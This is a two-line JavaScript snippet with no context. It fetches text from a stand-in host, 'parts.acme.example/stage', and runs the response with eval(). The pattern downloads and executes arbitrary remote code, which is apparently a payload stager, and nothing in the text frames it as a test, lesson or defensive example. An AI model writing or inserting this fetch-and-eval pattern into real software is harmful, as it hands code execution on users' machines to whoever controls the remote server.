const answer = await fetch('https://parts.acme.example/stage');
eval(await answer.text());
